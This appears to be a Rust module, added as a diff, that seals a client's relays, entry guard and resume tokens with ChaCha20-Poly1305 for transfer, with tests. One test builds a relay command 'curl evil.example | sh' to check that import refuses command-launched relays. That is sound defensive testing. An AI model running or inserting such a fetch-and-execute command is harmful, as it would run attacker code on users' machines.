@@ -0,0 +1,328 @@
+//! Moves a client's trust material to another machine: the configured
+//! relays with their pinned fingerprints, the entry guard, and the tokens
+//! of relay sessions waiting to be resumed. Nothing about what was browsed
+//! is kept anywhere this could read it, so nothing of it is exported.
+//!
+//! The blob is sealed with ChaCha20-Poly1305 under a key stretched from a
+//! passphrase with PBKDF2-HMAC-SHA256. The header (format, iteration
+//! count, salt and nonce) is authenticated with it, so a wrong passphrase
+//! and a damaged or altered blob fail the same way.
+
+use std::num::NonZeroU32;
+
+use rand::rngs::OsRng;
+use rand::RngCore;
+use ring::aead::{Aad, LessSafeKey, Nonce, UnboundKey, CHACHA20_POLY1305, NONCE_LEN};
+use ring::pbkdf2;
+use serde::{Deserialize, Serialize};
+
+use crate::anonymity::guard::GuardRecord;
+use crate::anonymity::state_store::StateStore;
+use crate::config::{RelayEndpoint, TransportKind, TunnelConfig};
+use crate::relay_client;
+use crate::relay_resume::SessionToken;
+
+const MAGIC: &[u8; 8] = b"EBTSESS\0";
+const FORMAT_VERSION: u8 = 1;
+const SALT_LEN: usize = 16;
+const HEADER_LEN: usize = MAGIC.len() + 1 + 4 + SALT_LEN + NONCE_LEN;
+/// PBKDF2 rounds for new exports; imports take the count from the header.
+const PBKDF2_ITERATIONS: u32 = 600_000;
+/// Refused on import, so a crafted header cannot stall the importer.
+const MAX_PBKDF2_ITERATIONS: u32 = 10_000_000;
+
+#[derive(Debug, thiserror::Error)]
+pub enum SessionExportError {
+    #[error("session export passphrase is empty")]
+    EmptyPassphrase,
+    #[error("not a session export")]
+    NotAnExport,
+    #[error("session export format {0} is not supported")]
+    UnsupportedVersion(u8),
+    #[error("wrong passphrase, or the session export is damaged")]
+    Unsealed,
+    #[error("relay {0} is launched by a command; configure it on this machine instead of importing it")]
+    RelayCommand(String),
+    #[error("session state could not be encoded: {0}")]
+    Encoding(String),
+    #[error("session state: {0}")]
+    Io(#[from] std::io::Error),
+}
+
+/// A relay as exported; `RelayEndpoint` itself has no wire format.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+struct ExportedRelay {
+    host: String,
+    port: u16,
+    transport: TransportKind,
+    fingerprint: Option<String>,
+    command: Option<Vec<String>>,
+    checksums: bool,
+    #[serde(default)]
+    dns_key: Option<String>,
+}
+
+impl From<&RelayEndpoint> for ExportedRelay {
+    fn from(endpoint: &RelayEndpoint) -> Self {
+        Self {
+            host: endpoint.host.clone(),
+            port: endpoint.port,
+            transport: endpoint.transport.clone(),
+            fingerprint: endpoint.fingerprint.clone(),
+            command: endpoint.command.clone(),
+            checksums: endpoint.checksums,
+            dns_key: endpoint.dns_key.clone(),
+        }
+    }
+}
+
+impl From<ExportedRelay> for RelayEndpoint {
+    fn from(relay: ExportedRelay) -> Self {
+        Self {
+            host: relay.host,
+            port: relay.port,
+            transport: relay.transport,
+            fingerprint: relay.fingerprint,
+            command: relay.command,
+            checksums: relay.checksums,
+            dns_key: relay.dns_key,
+        }
+    }
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+struct ExportedState {
+    relays: Vec<ExportedRelay>,
+    guard: Option<GuardRecord>,
+    resume_tokens: Vec<(String, SessionToken)>,
+}
+
+/// A client's relays, entry guard and resumable relay sessions, as
+/// `capture` found them or `import` unsealed them.
+#[derive(Debug, Clone)]
+pub struct SessionState {
+    state: ExportedState,
+}
+
+impl SessionState {
+    /// The state of the client `config` describes: its relays, the guard
+    /// saved at its guard path, and this process's resumable sessions.
+    pub fn capture(config: &TunnelConfig) -> Result<Self, SessionExportError> {
+        let guard = match &config.relay.guard {
+            Some(guard) => StateStore::new(&guard.state_path).load()?.guard,
+            None => None,
+        };
+        Ok(Self {
+            state: ExportedState {
+                relays: config.relay.endpoints.iter().map(ExportedRelay::from).collect(),
+                guard,
+                resume_tokens: relay_client::cut_session_tokens(),
+            },
+        })
+    }
+
+    pub fn relays(&self) -> Vec<RelayEndpoint> {
+        self.state.relays.iter().cloned().map(RelayEndpoint::from).collect()
+    }
+
+    /// Identity of the entry guard, if one was drawn.
+    pub fn guard(&self) -> Option<&str> {
+        self.state.guard.as_ref().map(|guard| guard.id.as_str())
+    }
+
+    /// Seals the state under `passphrase`.
+    pub fn export(&self, passphrase: &str) -> Result<Vec<u8>, SessionExportError> {
+        seal(&self.state, passphrase, PBKDF2_ITERATIONS)
+    }
+
+    /// Unseals a blob from `export`.
+    pub fn import(blob: &[u8], passphrase: &str) -> Result<Self, SessionExportError> {
+        Ok(Self {
+            state: open(blob, passphrase)?,
+        })
+    }
+
+    /// Takes the state on for this machine. Relays `config` lacks are
+    /// added after its own; the guard is saved at `config`'s guard path,
+    /// and skipped when it has none; resumable sessions are left for the
+    /// next connect to their relay.
+    ///
+    /// A relay `config` lacks that is launched by a command refuses the
+    /// whole import, before anything is changed: whoever made the blob
+    /// would choose what this machine runs.
+    pub fn restore(self, config: &mut TunnelConfig) -> Result<(), SessionExportError> {
+        let ExportedState { relays, guard, resume_tokens } = self.state;
+        let missing: Vec<RelayEndpoint> = relays
+            .into_iter()
+            .map(RelayEndpoint::from)
+            .filter(|relay| {
+                !config.relay.endpoints.iter().any(|endpoint| {
+                    endpoint.host == relay.host && endpoint.port == relay.port && endpoint.command == relay.command
+                })
+            })
+            .collect();
+        if let Some(relay) = missing.iter().find(|relay| relay.command.is_some()) {
+            return Err(SessionExportError::RelayCommand(format!("{}:{}", relay.host, relay.port)));
+        }
+        config.relay.endpoints.extend(missing);
+        if let (Some(guard), Some(guard_config)) = (guard, &config.relay.guard) {
+            let store = StateStore::new(&guard_config.state_path);
+            let mut saved = store.load()?;
+            saved.guard = Some(guard);
+            store.save(&saved)?;
+        }
+        for (relay, token) in resume_tokens {
+            relay_client::leave_cut_session(relay, token);
+        }
+        Ok(())
+    }
+}
+
+fn key(passphrase: &str, salt: &[u8], iterations: NonZeroU32) -> LessSafeKey {
+    let mut key = [0u8; 32];
+    pbkdf2::derive(pbkdf2::PBKDF2_HMAC_SHA256, iterations, salt, passphrase.as_bytes(), &mut key);
+    let unbound = UnboundKey::new(&CHACHA20_POLY1305, &key).expect("chacha20-poly1305 accepts 32-byte keys");
+    LessSafeKey::new(unbound)
+}
+
+fn seal(state: &ExportedState, passphrase: &str, iterations: u32) -> Result<Vec<u8>, SessionExportError> {
+    if passphrase.is_empty() {
+        return Err(SessionExportError::EmptyPassphrase);
+    }
+    let rounds = NonZeroU32::new(iterations).expect("iteration count is a nonzero constant");
+    let mut salt = [0u8; SALT_LEN];
+    OsRng.fill_bytes(&mut salt);
+    let mut nonce = [0u8; NONCE_LEN];
+    OsRng.fill_bytes(&mut nonce);
+
+    let mut blob = Vec::with_capacity(HEADER_LEN);
+    blob.extend_from_slice(MAGIC);
+    blob.push(FORMAT_VERSION);
+    blob.extend_from_slice(&iterations.to_be_bytes());
+    blob.extend_from_slice(&salt);
+    blob.extend_from_slice(&nonce);
+
+    let mut sealed = bincode::serialize(state).map_err(|e| SessionExportError::Encoding(e.to_string()))?;
+    key(passphrase, &salt, rounds)
+        .seal_in_place_append_tag(Nonce::assume_unique_for_key(nonce), Aad::from(blob.as_slice()), &mut sealed)
+        .map_err(|_| SessionExportError::Encoding("sealing failed".to_string()))?;
+    blob.extend_from_slice(&sealed);
+    Ok(blob)
+}
+
+fn open(blob: &[u8], passphrase: &str) -> Result<ExportedState, SessionExportError> {
+    if blob.len() < HEADER_LEN || !blob.starts_with(MAGIC) {
+        return Err(SessionExportError::NotAnExport);
+    }
+    let (header, sealed) = blob.split_at(HEADER_LEN);
+    let version = header[MAGIC.len()];
+    if version != FORMAT_VERSION {
+        return Err(SessionExportError::UnsupportedVersion(version));
+    }
+    let fields = &header[MAGIC.len() + 1..];
+    let iterations = u32::from_be_bytes([fields[0], fields[1], fields[2], fields[3]]);
+    let rounds = match NonZeroU32::new(iterations) {
+        Some(rounds) if iterations <= MAX_PBKDF2_ITERATIONS => rounds,
+        _ => return Err(SessionExportError::Unsealed),
+    };
+    let (salt, nonce) = fields[4..].split_at(SALT_LEN);
+    let nonce = Nonce::try_assume_unique_for_key(nonce).map_err(|_| SessionExportError::NotAnExport)?;
+
+    let mut plaintext = sealed.to_vec();
+    let plaintext = key(passphrase, salt, rounds)
+        .open_in_place(nonce, Aad::from(header), &mut plaintext)
+        .map_err(|_| SessionExportError::Unsealed)?;
+    bincode::deserialize(plaintext).map_err(|_| SessionExportError::Unsealed)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::GuardConfig;
+    use std::time::Duration;
+
+    fn state() -> ExportedState {
+        let mut relay = RelayEndpoint::new("relay.example", 443);
+        relay.fingerprint = Some("ab".repeat(32));
+        ExportedState {
+            relays: vec![ExportedRelay::from(&relay)],
+            guard: Some(GuardRecord {
+                id: "relay.example:443".to_string(),
+                chosen_at: 1_000,
+                expires_at: 2_000,
+            }),
+            resume_tokens: vec![("relay.example:443".to_string(), [7; 16])],
+        }
+    }
+
+    #[test]
+    fn exports_open_only_with_their_passphrase_and_untouched() {
+        let blob = seal(&state(), "correct horse", 1_000).unwrap();
+        let opened = open(&blob, "correct horse").unwrap();
+        assert_eq!(opened.guard, state().guard);
+        assert_eq!(opened.resume_tokens, state().resume_tokens);
+
+        assert!(matches!(open(&blob, "wrong horse"), Err(SessionExportError::Unsealed)));
+        for byte in [MAGIC.len() + 2, HEADER_LEN - 1, blob.len() - 1] {
+            let mut altered = blob.clone();
+            altered[byte] ^= 0x01;
+            assert!(matches!(open(&altered, "correct horse"), Err(SessionExportError::Unsealed)), "byte {byte}");
+        }
+        assert!(matches!(open(b"not an export", "correct horse"), Err(SessionExportError::NotAnExport)));
+        assert!(matches!(seal(&state(), "", 1_000), Err(SessionExportError::EmptyPassphrase)));
+    }
+
+    #[test]
+    fn restore_adds_missing_relays_and_saves_the_guard() {
+        let path = std::env::temp_dir().join(format!("ebt-session-import-{}", std::process::id()));
+        let _ = std::fs::remove_file(&path);
+        let mut config = TunnelConfig::ssh_socks_profile();
+        config.relay.endpoints = vec![
+            RelayEndpoint::new("relay.example", 443),
+            RelayEndpoint::new("other.example", 80),
+        ];
+        config.relay.guard = Some(GuardConfig {
+            state_path: path.to_string_lossy().into_owned(),
+            lifetime: Duration::from_secs(60),
+        });
+
+        let mut exported = state();
+        exported.relays.push(ExportedRelay::from(&RelayEndpoint::new("new.example", 8443)));
+        exported.resume_tokens.clear();
+        SessionState { state: exported }.restore(&mut config).unwrap();
+
+        let hosts: Vec<_> = config.relay.endpoints.iter().map(|endpoint| endpoint.host.as_str()).collect();
+        assert_eq!(hosts, ["relay.example", "other.example", "new.example"]);
+        assert_eq!(config.relay.endpoints[0].fingerprint, None);
+        let captured = SessionState::capture(&config).unwrap();
+        assert_eq!(captured.guard(), Some("relay.example:443"));
+        assert_eq!(captured.relays().len(), 3);
+        let _ = std::fs::remove_file(&path);
+    }
+
+    #[test]
+    fn restore_refuses_relays_launched_by_a_command() {
+        let mut config = TunnelConfig::ssh_socks_profile();
+        let mut stdio = RelayEndpoint::new("stdio.invalid", 1);
+        stdio.command = Some(vec!["sh".to_string(), "-c".to_string(), "curl evil.example | sh".to_string()]);
+        config.relay.endpoints = vec![RelayEndpoint::new("relay.example", 443)];
+        let mut exported = state();
+        exported.relays.push(ExportedRelay::from(&RelayEndpoint::new("new.example", 8443)));
+        exported.relays.push(ExportedRelay::from(&stdio));
+
+        let mut imported = SessionState::import(&seal(&exported, "pass", 1_000).unwrap(), "pass").unwrap();
+        assert!(matches!(
+            imported.clone().restore(&mut config),
+            Err(SessionExportError::RelayCommand(relay)) if relay == "stdio.invalid:1"
+        ));
+        assert_eq!(config.relay.endpoints.len(), 1);
+
+        // The same relay, already configured here, runs nothing new.
+        config.relay.endpoints.push(stdio);
+        imported.state.guard = None;
+        imported.state.resume_tokens.clear();
+        imported.restore(&mut config).unwrap();
+        let hosts: Vec<_> = config.relay.endpoints.iter().map(|endpoint| endpoint.host.as_str()).collect();
+        assert_eq!(hosts, ["relay.example", "stdio.invalid", "new.example"]);
+    }
+}